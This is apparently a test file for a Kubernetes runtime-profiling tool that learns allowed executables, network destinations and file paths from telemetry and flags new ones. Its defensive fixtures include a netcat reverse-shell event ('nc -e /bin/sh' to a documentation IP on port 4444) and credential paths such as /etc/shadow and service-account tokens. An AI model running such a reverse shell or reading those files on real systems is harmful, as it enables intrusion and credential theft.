#!/usr/bin/env python3
"""learn and check --events: telemetry -> learn -> profile -> judged by the
same runtime rules the controller uses.  The learned profile allows the
events it came from and flags a new executable and a new destination."""
import json
import os
import subprocess
import tempfile
import unittest

BIN = os.environ.get("PROFILEGUARD", "build/src/cmd/profileguard")
# hack/valgrind: every run under memcheck
WRAPPER = os.environ.get("PG_TEST_WRAPPER", "").split()
ROOT = os.environ.get("SOURCE_ROOT", os.path.join(os.path.dirname(__file__), "..", ".."))
DATA = os.path.join(ROOT, "tests", "data", "telemetry")
POD = os.path.join(ROOT, "examples", "manifests", "good", "payments-pod.yaml")
DIGEST = "sha256:682a1c47a1d34030b53d929d93f628b8e80e292b915f8c0e8d8fb51b3b7be968"
# the Deployment whose pods are payments-api-<pod-template-hash>-<suffix>
DEPLOYMENT = f"""apiVersion: apps/v1
kind: Deployment
metadata: {{name: payments-api, namespace: payments}}
spec:
  selector: {{matchLabels: {{app: payments-api}}}}
  template:
    metadata: {{labels: {{app: payments-api}}}}
    spec:
      serviceAccountName: payments-api
      automountServiceAccountToken: false
      securityContext: {{runAsNonRoot: true, runAsUser: 10001}}
      containers:
        - name: api
          image: registry.example.com/payments/api@{DIGEST}
          securityContext: {{allowPrivilegeEscalation: false, capabilities: {{drop: [ALL]}}}}
"""
OWN = "payments-api-7d9fbc6d48-x2kqz"
OWN_CID = "containerd://4f2a6c8e0b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a"


def run(*args, stdin=None):
    p = subprocess.run([*WRAPPER, BIN, *args], input=stdin, capture_output=True, text=True, timeout=600 if WRAPPER else 60)
    return p.returncode, p.stdout, p.stderr


def native(kind, **kw):
    ev = {"kind": kind, "time": "2026-11-22T11:00:00Z", "node": "node-a",
          "pod": {"namespace": "payments", "name": "payments-api-7d9f-x2"}, "container": "api"}
    ev.update(kw)
    return json.dumps({k: v for k, v in ev.items() if v is not None})


def audit(verb, resource, name=None, subresource=None, group=None):
    """One audit event of the pod's service account (ResponseComplete)."""
    ref = {"resource": resource, "namespace": "payments", "name": name, "subresource": subresource,
           "apiGroup": group, "apiVersion": "v1"}
    return {"level": "Metadata", "auditID": "a-%s-%s-%s" % (verb, resource, subresource), "stage": "ResponseComplete",
            "requestURI": "/api/v1/namespaces/payments/" + resource, "verb": verb,
            "user": {"username": "system:serviceaccount:payments:payments-api"},
            "objectRef": {k: v for k, v in ref.items() if v is not None}, "responseStatus": {"code": 200},
            "requestReceivedTimestamp": "2026-11-22T11:00:00.000000Z", "stageTimestamp": "2026-11-22T11:00:00.001000Z"}


def pod_with(image, name="web"):
    return ("apiVersion: v1\nkind: Pod\nmetadata: {name: %s, namespace: payments, labels: {app: web}}\n"
            "spec: {containers: [{name: c, image: '%s'}]}\n" % (name, image))


class Learn(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.dir = self.tmp.name
        # audit events without the stale-token sample: learn cannot allow a stale token
        with open(os.path.join(DATA, "audit.json")) as f:
            audit = json.load(f)
        audit["items"] = [i for i in audit["items"] if "authentication.k8s.io/stale-token" not in i.get("annotations", {})]
        self.audit = self.path("audit.json", json.dumps(audit))
        self.events = [os.path.join(DATA, "native.jsonl"), self.audit, os.path.join(DATA, "falco.json")]
        # The captures in tests/data come from the pod payments-api-7d9f-x2:
        # its manifest is the example pod under that name.
        with open(POD) as f:
            text = f.read()
        self.assertIn("\n  name: payments-api\n", text)
        self.pod = self.path("pod.yaml", text.replace("\n  name: payments-api\n", "\n  name: payments-api-7d9f-x2\n", 1))

    def tearDown(self):
        self.tmp.cleanup()

    def path(self, name, text):
        p = os.path.join(self.dir, name)
        with open(p, "w") as f:
            f.write(text)
        return p

    def learn(self, *extra, events=None, pod=None):
        args = ["learn", "--pod", pod or self.pod, "--name", "payments-api", "--namespace", "payments", "--mode", "Enforce"]
        for e in events or self.events:
            args += ["-f", e]
        return run(*args, *extra)

    def test_round_trip(self):
        for extra in ([], ["--exact"]):
            with self.subTest(extra=extra):
                self.round_trip(*extra)

    def round_trip(self, *extra):
        rc, profile, err = self.learn(*extra)
        self.assertEqual(rc, 0, err)
        prof = self.path("learned.yaml", profile)
        # the learned profile is valid and the pod it came from passes admission
        rc, out, err = run("check", "-p", prof, "-f", POD)
        self.assertEqual(rc, 0, out + err)
        # the events it was learned from are all allowed
        args = ["check", "-p", prof, "-f", POD]
        for e in self.events:
            args += ["--events", e]
        rc, out, err = run(*args)
        self.assertEqual(rc, 0, out + err)
        self.assertIn("0 findings (0 Enforce)", out)
        # a new executable and a new destination are flagged
        new = self.path("new.jsonl", "\n".join([
            native("exec", exe="/usr/bin/nc", args=["-e", "/bin/sh", "203.0.113.9", "4444"]),
            native("connect", daddr="198.51.100.7", dport=443, protocol="tcp"),
            native("connect", daddr="10.96.14.2", dport=5432, protocol="tcp"),   # seen before: fine
        ]) + "\n")
        rc, out, err = run("check", "-p", prof, "-f", POD, "--events", new, "-o", "json")
        self.assertEqual(rc, 1, out + err)
        doc = json.loads(out)
        findings = [f for e in doc["events"] for f in e["findings"]]
        self.assertEqual(sorted(f["reason"] for f in findings), ["UnexpectedEgress", "UnexpectedExecutable"])
        self.assertIn('container "api": exec "/usr/bin/nc" not allowed by payments/payments-api runtime.executables',
                      [f["message"] for f in findings])
        self.assertIn('container "api": connect 198.51.100.7:443/tcp not allowed by payments/payments-api runtime.egress',
                      [f["message"] for f in findings])
        self.assertEqual(doc["summary"]["events"], {"judged": 3, "findings": 2, "enforce": 2, "unattributed": 0})

    def test_profile_content(self):
        # --exact: what was seen, as seen (the image by its digest)
        rc, profile, err = self.learn("--exact")
        self.assertEqual(rc, 0, err)
        for want in ("  name: payments-api\n  namespace: payments\n",
                     "    matchLabels:\n      app: payments-api\n  mode: Enforce\n",
                     "    serviceAccountNames: [payments-api]\n",
                     "    allow:\n      - \"registry.example.com/payments/api@" + DIGEST + "\"\n    requireDigest: true\n",
                     "      - /app/server\n      - /bin/sh  # review: a shell\n      - /usr/bin/curl\n",
                     '      - cidr: "10.96.0.10/32"\n        ports: [53]\n',
                     '      - cidr: "10.96.14.2/32"\n        ports: [5432]\n',
                     "      read:\n        - /etc/ssl/certs/ca-certificates.crt\n      write:\n        - /tmp/cache/session.db\n",
                     "      - verbs: [get]\n        resources: [configmaps]\n        resourceNames: [payments-api-config]\n"):
            self.assertIn(want, profile)
        self.assertNotIn("app.kubernetes.io/version", profile)   # changes every release
        self.assertNotIn("secrets", profile)                      # only in the stale-token sample
        self.assertIn("# It allows exactly what was seen (--exact).\n# 1 entry needs review", profile)
        # by default the same, but the image by its repository
        rc, general, err = self.learn()
        self.assertEqual(rc, 0, err)
        self.assertIn('    allow:\n      - "registry.example.com/payments/api@sha256:*"\n    requireDigest: true\n', general)
        self.assertIn("# Generalised: images by repository; 0 directories generalised", general)
        strip = lambda t: [l for l in t.splitlines() if not l.startswith("#") and "registry.example.com" not in l]
        self.assertEqual(strip(profile), strip(general))

    def test_deterministic(self):
        _, a, _ = self.learn()
        _, b, _ = self.learn(events=list(reversed(self.events)))
        self.assertEqual(a, b)

    def test_cidr_aggregation_is_exact(self):
        ev = self.path("net.jsonl", "\n".join(
            [native("connect", daddr=f"10.1.2.{i}", dport=443) for i in range(4)] +
            [native("connect", daddr="10.1.2.4", dport=80),
             native("connect", daddr="10.1.2.5", dport=443),
             native("connect", daddr="fd00::1", dport=8443)]) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 0, err)
        self.assertIn('      - cidr: "10.1.2.0/30"\n        ports: [443]\n', profile)
        self.assertIn('      - cidr: "10.1.2.4/32"\n        ports: [80]\n', profile)
        self.assertIn('      - cidr: "10.1.2.5/32"\n        ports: [443]\n', profile)
        self.assertIn('      - cidr: "fd00::1/128"\n        ports: [8443]\n', profile)
        self.assertIn("executables are not profiled", profile)   # no exec seen: not []

    def test_many_ports_are_all_kept(self):
        # 300 ports on two addresses: the port list once lived in a fixed
        # 512-byte string, and past it learn wrote out of bounds.
        ev = self.path("ports.jsonl", "\n".join(
            native("connect", daddr=f"10.9.0.{1 + i % 2}", dport=10000 + i, protocol="tcp")
            for i in range(300)) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 0, err)
        for addr, first in (("10.9.0.1", 10000), ("10.9.0.2", 10001)):
            want = ", ".join(str(p) for p in range(first, 10300, 2))
            self.assertIn(f'      - cidr: "{addr}/32"\n        ports: [{want}]\n', profile)
        args = ["check", "-p", self.path("learned.yaml", profile), "-f", POD, "--events", ev]
        rc, out, err = run(*args)
        self.assertEqual(rc, 0, out + err)
        self.assertIn("0 findings (0 Enforce)", out)

    def test_what_no_profile_can_hold(self):
        # A path past the validator's 4,096 bytes is left out, and said so;
        # the profile printed still validates.
        ev = self.path("long.jsonl", native("exec", exe="/app/server") + "\n" +
                       native("exec", exe="/" + "a" * 5000) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 0, err)
        self.assertIn("1 events left out: a path or name longer than a profile holds", err)
        self.assertIn("# 1 events left out", profile)
        self.assertIn("      - /app/server\n", profile)
        rc, out, err = run("check", "-p", self.path("p.yaml", profile), "-f", POD)
        self.assertEqual(rc, 0, out + err)
        # More distinct executables than a profile may list: no profile at
        # all, rather than one the validator refuses or one cut short.
        ev = self.path("many.jsonl", "\n".join(native("exec", exe=f"/bin/x{i}") for i in range(4100)) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 2)
        self.assertEqual(profile, "")
        self.assertIn("cannot write the profile: 4100 distinct executables seen; a profile holds at most 4096", err)

    def test_bad_lines_still_print_but_exit_2(self):
        ev = self.path("bad.jsonl", native("exec", exe="/app/server") + "\nnot json\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 2)
        self.assertIn("1 malformed events record skipped", err)
        self.assertIn("      - /app/server\n", profile)

    def test_other_namespace(self):
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n" +
                       native("exec", exe="/bin/evil", pod={"namespace": "other", "name": "payments-api-7d9f-x2"}) + "\n")
        rc, profile, err = run("learn", "-f", ev, "--pod", self.pod, "--name", "svc", "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        self.assertIn("  mode: Audit\n", profile)
        self.assertIn("      - /app/server\n", profile)
        self.assertNotIn("/bin/evil", profile)
        self.assertIn("1 events used, 1 skipped", err)
        prof = self.path("p.yaml", profile)
        rc, out, err = run("check", "-p", prof, "-f", POD)
        self.assertEqual(rc, 0, out + err)

    def test_refused_without_a_workload(self):
        # Without a manifest nothing says whose events are the workload's:
        # learning from every pod of the namespace is what let another
        # pod's reverse shell into a profile.  Refused, and said why.
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
        rc, out, err = run("learn", "-f", ev, "--name", "svc", "--namespace", "payments")
        self.assertEqual((rc, out), (2, ""), err)
        self.assertIn("--pod MANIFEST is required", err)
        rc, out, err = run("learn", "--help")
        self.assertEqual(rc, 0, err)
        self.assertIn("Only events of the workload's own pods count", out + err)

    def test_help_describes_exact(self):
        rc, out, err = run("help", "learn")
        self.assertEqual(rc, 0, err)
        self.assertIn("--exact", out)
        self.assertIn("allow exactly what was seen: no image tag or file directory generalised", out)
        self.assertIn("--exact allows exactly what was seen instead", out)
        self.assertIn('"# review: WHY" comment', out)

    def test_usage(self):
        rc, _, err = run("learn", "--name", "x")
        self.assertEqual(rc, 2)
        self.assertIn("need -f EVENTS", err)
        rc, _, err = run("learn", "-f", "/nonexistent", "--pod", self.pod, "--name", "x", "--namespace", "payments")
        self.assertEqual(rc, 2)
        self.assertIn("/nonexistent: No such file", err)
        rc, _, err = run("learn", "-f", "-", "--pod", self.pod, "--name", "x", "--namespace", "payments",
                         "--format", "syslog", stdin="")
        self.assertEqual(rc, 2)
        self.assertIn("--format must be", err)
        # what would make the profile's metadata invalid is refused up front
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
        for args, want in ((["--name", "x", "--namespace", "auditID"], '--namespace "auditID" is not a valid namespace name'),
                           (["--name", "Bad_Name", "--namespace", "y"], '--name "Bad_Name" is not a valid name'),
                           (["--name", "x", "--namespace", "y", "--service-account", "a b"], '--service-account "a b" is not a valid name')):
            rc, out, err = run("learn", "-f", ev, *args)
            self.assertEqual((rc, out), (2, ""), err)
            self.assertIn(want, err)

    def test_selector_only_from_valid_labels(self):
        # A manifest's labels are not validated on the way in: those the
        # API server would refuse are left out of the selector, and said so.
        pod = self.path("pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: payments,\n"
                        "  labels: {app: api, 'bad key!': x, tier: 'not a value'}}\n"
                        "spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n")
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
        rc, profile, err = run("learn", "-f", ev, "--pod", pod, "--name", "svc", "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        self.assertIn("    # 2 pod labels left out: not a valid label key or value\n    matchLabels:\n      app: api\n", profile)
        rc, out, err = run("check", "-p", self.path("p.yaml", profile), "-f", pod)
        self.assertEqual(rc, 0, out + err)
        # With no usable label, the fallback selector is a valid label value
        # even for a name longer than one.
        name = "a" * 60 + ".b" * 10
        bare = self.path("bare.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: payments-api-7d9f-x2, namespace: payments}\n"
                         "spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n")
        rc, profile, err = run("learn", "-f", ev, "--pod", bare, "--name", name, "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        self.assertIn("      app: " + "a" * 60 + ".b\n", profile)
        rc, out, err = run("check", "-p", self.path("q.yaml", profile), "-f", POD)
        self.assertEqual(rc, 0, out + err)

    # ---- only the workload's own pods (SPEC §6) -------------------------------

    def capture(self):
        """The workload's pod (a Deployment's), another pod of the namespace
        running a reverse shell, a Deployment whose name starts like the
        workload's, and container-ID-only events: one of the workload's own
        container (its short ID), one of a container on another node."""
        return self.path("mixed.jsonl", "\n".join([
            native("exec", exe="/app/server", pod={"namespace": "payments", "name": OWN, "uid": "u-own"},
                   containerID=OWN_CID),
            native("connect", daddr="10.96.14.2", dport=5432, protocol="tcp",
                   pod={"namespace": "payments", "name": OWN}),
            native("exec", exe="/usr/bin/nc", args=["-e", "/bin/sh", "198.51.100.7", "4444"],
                   pod={"namespace": "payments", "name": "payments-worker-5c8d7f9b6d-q7w2m"}),
            native("connect", daddr="198.51.100.7", dport=4444, protocol="tcp",
                   pod={"namespace": "payments", "name": "payments-worker-5c8d7f9b6d-q7w2m"}),
            native("exec", exe="/bin/bash", pod={"namespace": "payments", "name": "payments-api-admin-6b7c8d9f5-zzxx2"}),
            native("exec", exe="/usr/bin/curl", pod=None, node="node-a", containerID=OWN_CID[len("containerd://"):][:12]),
            native("connect", daddr="203.0.113.50", dport=9001, protocol="tcp", pod=None, node="node-b",
                   containerID="containerd://" + "e" * 64),
        ]) + "\n")

    def learn_deployment(self):
        rc, profile, err = self.learn(events=[self.capture()], pod=self.path("deploy.yaml", DEPLOYMENT))
        self.assertEqual(rc, 0, err)
        return profile, err

    def test_other_pods_reverse_shell_is_not_learned(self):
        profile, _ = self.learn_deployment()
        self.assertIn("      - /app/server\n", profile)
        self.assertIn('      - cidr: "10.96.14.2/32"\n        ports: [5432]\n', profile)
        self.assertNotIn("/usr/bin/nc", profile)
        self.assertNotIn("198.51.100.7", profile)
        self.assertNotIn("/bin/bash", profile)        # payments-api-admin is another Deployment
        # and the profile learned flags the reverse shell
        prof = self.path("learned.yaml", profile)
        shell = self.path("shell.jsonl", native("exec", exe="/usr/bin/nc", pod={"namespace": "payments", "name": "payments-api-7d9f-x2"}) + "\n")
        rc, out, err = run("check", "-p", prof, "-f", self.pod, "--events", shell)
        self.assertEqual(rc, 1, out + err)
        self.assertIn('exec "/usr/bin/nc" not allowed', out)

    def test_container_id_only_counts_when_tied(self):
        profile, _ = self.learn_deployment()
        # the short ID of a container an own pod's event named: counted
        self.assertIn("      - /usr/bin/curl\n", profile)
        # a container ID no event of the workload named, from another node: not
        self.assertNotIn("203.0.113.50", profile)
        # a Pod manifest's status ties its containers' IDs
        pod = self.path("own-pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: p-0, namespace: payments, labels: {app: p}}\n"
                        "spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n"
                        "status: {containerStatuses: [{name: c, containerID: '" + OWN_CID + "'}]}\n")
        ev = self.path("cid.jsonl", native("exec", exe="/usr/bin/tini", pod=None, containerID=OWN_CID) + "\n" +
                       native("exec", exe="/usr/bin/nc", pod=None, containerID="containerd://" + "e" * 64) + "\n")
        rc, profile, err = self.learn(events=[ev], pod=pod)
        self.assertEqual(rc, 0, err)
        self.assertIn("      - /usr/bin/tini\n", profile)
        self.assertNotIn("/usr/bin/nc", profile)
        self.assertIn("# skipped: 0 events of other pods, 1 event not tied to this workload\n", profile)

    def test_header_counts_what_was_skipped(self):
        profile, err = self.learn_deployment()
        self.assertIn("# skipped: 3 events of other pods, 1 event not tied to this workload\n", profile)
        self.assertIn("# workload: Deployment payments/payments-api: its pods payments-api-<hash>-<suffix>", profile)
        self.assertIn("3 events used, 4 skipped", err)

    def test_pod_names_each_kind_makes(self):
        # Whose pods a manifest names, kind by kind (what the controllers
        # name them); near misses are other workloads'.
        tmpl = ("  template:\n    metadata: {labels: {app: w}}\n"
                "    spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n")
        cases = [
            ("apps/v1", "Deployment", "web", ["web-7d9fbc6d48-x2kqz", "web-5c8d7-q7w2m"],
             ["web-x2kqz", "web-7d9fbc6d48-x2kq", "web-7d9fbc6d48-x2kqa", "web-db-0", "webx-7d9fbc6d48-x2kqz",
              "web-7d9fbc6d48x-x2kqz-q7w2m", "web-7d9fbc6d48-x2kqz-q7w2m"]),
            ("apps/v1", "StatefulSet", "db", ["db-0", "db-12"], ["db-01", "db-x", "db-0-1", "db-", "dbb-0"]),
            ("apps/v1", "DaemonSet", "agent", ["agent-x2kqz"], ["agent-7d9fbc6d48-x2kqz", "agent-x2kq", "agent-0"]),
            ("batch/v1", "Job", "migrate", ["migrate-q7w2m"], ["migrate-q7w2", "migrate-db-q7w2m"]),
            ("batch/v1", "CronJob", "backup", ["backup-29400000-q7w2m"], ["backup-q7w2m", "backup-2940x-q7w2m"]),
            ("apps/v1", "ReplicaSet", "rs", ["rs-x2kqz"], ["rs-7d9fbc6d48-x2kqz"]),
        ]
        for api, kind, name, own, foreign in cases:
            with self.subTest(kind=kind):
                spec = tmpl if kind != "CronJob" else "  schedule: '@daily'\n  jobTemplate:\n    spec:\n" + \
                    "".join("    " + l + "\n" for l in tmpl.splitlines())
                if kind in ("Deployment", "StatefulSet", "DaemonSet", "ReplicaSet"):
                    spec = "  selector: {matchLabels: {app: w}}\n" + spec
                m = self.path(kind + ".yaml", f"apiVersion: {api}\nkind: {kind}\nmetadata: {{name: {name}, namespace: payments}}\nspec:\n{spec}")
                lines = [native("exec", exe=f"/own/{i}", pod={"namespace": "payments", "name": n}) for i, n in enumerate(own)]
                lines += [native("exec", exe=f"/foreign/{i}", pod={"namespace": "payments", "name": n}) for i, n in enumerate(foreign)]
                rc, profile, err = self.learn(events=[self.path(kind + ".jsonl", "\n".join(lines) + "\n")], pod=m)
                self.assertEqual(rc, 0, err)
                for i in range(len(own)):
                    self.assertIn(f"      - /own/{i}\n", profile)
                self.assertNotIn("/foreign/", profile)
                self.assertIn(f"# skipped: {len(foreign)} event{'s' if len(foreign) > 1 else ''} of other pods", profile)

    def test_selector_picks_the_pods_of_a_list(self):
        # kubectl get pods -o yaml: the pods --selector matches are the
        # workload's, by name, UID and the container IDs of their status.
        def pod(name, app, uid, cid):
            return {"apiVersion": "v1", "kind": "Pod",
                    "metadata": {"name": name, "namespace": "payments", "uid": uid, "labels": {"app": app, "pod-template-hash": "7d9fbc6d48"}},
                    "spec": {"serviceAccountName": "api", "containers": [{"name": "c", "image": "r.io/api@sha256:" + "a" * 64}]},
                    "status": {"containerStatuses": [{"name": "c", "containerID": "containerd://" + cid * 64}]}}
        pods = self.path("pods.json", json.dumps({"apiVersion": "v1", "kind": "List", "items": [
            pod("batch-0", "batch", "u-batch", "b"), pod("api-one", "api", "u-1", "c"), pod("api-two", "api", "u-2", "d")]}))
        ev = self.path("sel.jsonl", "\n".join([
            native("exec", exe="/app/one", pod={"namespace": "payments", "name": "api-one"}),
            native("exec", exe="/app/two", pod={"namespace": "payments", "name": "api-two"}),
            native("exec", exe="/usr/bin/tini", pod=None, containerID="containerd://" + "d" * 64),
            native("exec", exe="/usr/bin/uid", pod={"uid": "u-1"}),
            native("exec", exe="/usr/bin/nc", pod={"namespace": "payments", "name": "batch-0"}),
            native("exec", exe="/usr/bin/nc", pod=None, containerID="containerd://" + "b" * 64),
        ]) + "\n")
        rc, profile, err = run("learn", "-f", ev, "--pod", pods, "--selector", "app=api", "--name", "api", "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        for exe in ("/app/one", "/app/two", "/usr/bin/tini", "/usr/bin/uid"):
            self.assertIn(f"      - {exe}\n", profile)
        self.assertNotIn("/usr/bin/nc", profile)
        self.assertIn("  selector:\n    matchLabels:\n      app: api\n", profile)
        self.assertIn("# skipped: 1 event of other pods, 1 event not tied to this workload\n", profile)
        self.assertIn("# workload: 2 objects of ", profile)
        self.assertIn("matching app=api", profile)
        self.assertNotIn("pod-template-hash", profile)   # --selector is the selector, as given
        rc, out, err = run("check", "-p", self.path("p.yaml", profile), "-f", pods)
        self.assertEqual(rc, 0, out + err)

    def test_selector_usage(self):
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
        for args, want in ((["--selector", "app=payments-api"], "--pod MANIFEST is required"),
                           (["--pod", self.pod, "--selector", "app"], '--selector "app": not KEY=VALUE[,KEY=VALUE...]'),
                           (["--pod", self.pod, "--selector", "app=a b"], '--selector "app=a b": not KEY=VALUE[,KEY=VALUE...]'),
                           (["--pod", self.pod, "--selector", "app=nope"], "no Pod or pod template whose labels match --selector app=nope")):
            rc, out, err = run("learn", "-f", ev, "--name", "x", "--namespace", "payments", *args)
            self.assertEqual((rc, out), (2, ""), err)
            self.assertIn(want, err)

    def test_manifest_in_another_namespace(self):
        rc, out, err = run("learn", "-f", os.path.join(DATA, "native.jsonl"), "--pod", self.pod, "--name", "x", "--namespace", "shop")
        self.assertEqual((rc, out), (2, ""), err)
        self.assertIn("is in namespace payments, not shop", err)

    # ---- generalisation ---------------------------------------------------------

    def learn_web(self, image, *extra, lines=None):
        """learn from the pod web running @image; the profile (Enforce) and its path."""
        pod = self.path("web.yaml", pod_with(image))
        ev = self.path("web.jsonl", "\n".join(lines or [native("exec", exe="/app/server", pod={"namespace": "payments", "name": "web"})]) + "\n")
        rc, profile, err = run("learn", "-f", ev, "--pod", pod, "--name", "web", "--namespace", "payments", "--mode", "Enforce", *extra)
        self.assertEqual(rc, 0, err)
        # the profile still passes the pod it was learned from
        prof = self.path("web-profile.yaml", profile)
        rc, out, err = run("check", "-p", prof, "-f", pod)
        self.assertEqual(rc, 0, out + err)
        return profile, prof

    def admits(self, prof, image):
        rc, out, err = run("check", "-p", prof, "-f", self.path("next.yaml", pod_with(image)))
        self.assertIn(rc, (0, 1), out + err)
        return rc == 0

    def test_images_by_repository_tag(self):
        # The next release of the same repository is admitted; another
        # repository, or the same name elsewhere, is not.
        profile, prof = self.learn_web("app:1.0")
        self.assertIn('    allow:\n      - "docker.io/library/app:*"\n    requireDigest: false\n', profile)
        for image in ("app:1.1", "app", "docker.io/library/app:2.0", "index.docker.io/library/app:3"):
            self.assertTrue(self.admits(prof, image), image)
        for image in ("other:1.0", "app-other:1.0", "evil/app:1.0", "ghcr.io/library/app:1.0",
                      "app@sha256:" + "a" * 64):
            self.assertFalse(self.admits(prof, image), image)
        # a registry with a port: the port is not the tag
        profile, prof = self.learn_web("registry.local:5000/team/tool:2.3")
        self.assertIn('      - "registry.local:5000/team/tool:*"\n', profile)
        self.assertTrue(self.admits(prof, "registry.local:5000/team/tool:2.4"))
        self.assertFalse(self.admits(prof, "registry.local:5000/team/tool-x:2.4"))
        self.assertFalse(self.admits(prof, "registry.local:5001/team/tool:2.4"))
        # --exact: the tag seen, and nothing else
        profile, prof = self.learn_web("app:1.0", "--exact")
        self.assertIn('    allow:\n      - "app:1.0"\n', profile)
        self.assertTrue(self.admits(prof, "app:1.0"))
        self.assertFalse(self.admits(prof, "app:1.1"))

    def test_images_by_repository_digest(self):
        # Pinned by digest: any digest of the repository, and still
        # requireDigest, so a tag of it is refused.
        profile, prof = self.learn_web("registry.example.com/payments/api@" + DIGEST)
        self.assertIn('      - "registry.example.com/payments/api@sha256:*"\n    requireDigest: true\n', profile)
        self.assertTrue(self.admits(prof, "registry.example.com/payments/api@sha256:" + "b" * 64))
        self.assertTrue(self.admits(prof, "registry.example.com/payments/api:2.0@sha256:" + "b" * 64))
        self.assertFalse(self.admits(prof, "registry.example.com/payments/api:2.0"))
        self.assertFalse(self.admits(prof, "registry.example.com/payments/other@sha256:" + "b" * 64))
        self.assertFalse(self.admits(prof, "registry.example.com/payments/api-x@sha256:" + "b" * 64))

    def files(self, reads=(), writes=(), *extra):
        lines = [native("open", path=p, write=False, pod={"namespace": "payments", "name": "web"}) for p in reads]
        lines += [native("open", path=p, write=True, pod={"namespace": "payments", "name": "web"}) for p in writes]
        return self.learn_web("app:1.0", *extra, lines=lines)

    def judge(self, prof, path, write=False):
        """Whether check --events allows opening @path."""
        ev = self.path("open.jsonl", native("open", path=path, write=write, pod={"namespace": "payments", "name": "web"}) + "\n")
        rc, out, err = run("check", "-p", prof, "-f", self.path("web.yaml", pod_with("app:1.0")), "--events", ev)
        self.assertIn(rc, (0, 1), out + err)
        return rc == 0

    def test_directory_folding_threshold(self):
        # 3 files seen directly in a directory: the directory; 2: each file.
        profile, prof = self.files(["/app/conf/a.yaml", "/app/conf/b.yaml", "/app/conf/c.yaml",
                                    "/app/static/x.css", "/app/static/y.css"],
                                   ["/tmp/work/1", "/tmp/work/2", "/tmp/work/3", "/tmp/one/x"])
        self.assertIn('      read:\n        - "/app/conf/*"  # generalised: 3 files seen\n'
                      '        - /app/static/x.css\n        - /app/static/y.css\n', profile)
        self.assertIn('      write:\n        - /tmp/one/x\n        - "/tmp/work/*"  # generalised: 3 files seen\n', profile)
        self.assertIn("# Generalised: images by repository; 2 directories generalised (3 or more files seen in one);", profile)
        self.assertTrue(self.judge(prof, "/app/conf/d.yaml"))
        self.assertTrue(self.judge(prof, "/tmp/work/4", write=True))
        self.assertTrue(self.judge(prof, "/tmp/work/4"))             # written: readable
        self.assertFalse(self.judge(prof, "/app/static/z.css"))
        self.assertFalse(self.judge(prof, "/app/conf/d.yaml", write=True))
        self.assertFalse(self.judge(prof, "/app/other"))
        # files deeper in a folded directory are in it; the pattern's star
        # also reaches subdirectories
        profile, prof = self.files(["/srv/a", "/srv/b", "/srv/c", "/srv/sub/d", "/srv/sub/e", "/srv/sub/f"])
        self.assertIn('      read:\n        - "/srv/*"  # generalised: 6 files seen\n      write: []\n', profile)
        self.assertIn("1 directory generalised", profile)
        # --exact: every file as seen
        profile, prof = self.files(["/app/conf/a.yaml", "/app/conf/b.yaml", "/app/conf/c.yaml"], [], "--exact")
        self.assertIn("      read:\n        - /app/conf/a.yaml\n        - /app/conf/b.yaml\n        - /app/conf/c.yaml\n", profile)
        self.assertEqual([l for l in profile.split("\nspec:")[1].splitlines() if "*" in l], [])
        self.assertFalse(self.judge(prof, "/app/conf/d.yaml"))

    def test_no_folding_over_dangerous_files(self):
        profile, prof = self.files([
            # a dangerous file in the directory: never /etc/*
            "/etc/shadow", "/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf",
            # a key among certificates
            "/app/tls/a.crt", "/app/tls/b.crt", "/app/tls/tls.key",
            # /proc/self/* would reach /proc/self/mem and environ
            "/proc/self/status", "/proc/self/stat", "/proc/self/cgroup",
            # the service-account token's directory
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
            "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
            # a dangerous file deeper down keeps its ancestors exact
            "/home/app/x", "/home/app/y", "/home/app/z", "/home/app/.ssh/id_ed25519"],
            # a written directory whose pattern would let a key be read
            ["/data/1", "/data/2", "/data/3"])
        # but a read of a key under it
        profile, prof = self.files([
            "/etc/shadow", "/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf",
            "/app/tls/a.crt", "/app/tls/b.crt", "/app/tls/tls.key",
            "/proc/self/status", "/proc/self/stat", "/proc/self/cgroup",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
            "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
            "/home/app/x", "/home/app/y", "/home/app/z", "/home/app/.ssh/id_ed25519", "/data/k.pem"],
            ["/data/1", "/data/2", "/data/3"])
        self.assertIn("0 directories generalised", profile)
        body = profile.split("\nspec:")[1]
        self.assertEqual([l for l in body.splitlines() if "*" in l.split("#")[0] and "docker.io" not in l], [])
        self.assertIn("        - /etc/shadow  # review: credential file: password hashes\n", profile)
        self.assertIn("        - /app/tls/tls.key  # review: private key file (*.key)\n", profile)
        self.assertIn("        - /data/k.pem  # review: ", profile)
        for path in ("/etc/gshadow", "/etc/passwd", "/proc/self/mem", "/proc/self/environ", "/app/tls/c.crt",
                     "/var/run/secrets/kubernetes.io/serviceaccount/other", "/home/app/w", "/data/4"):
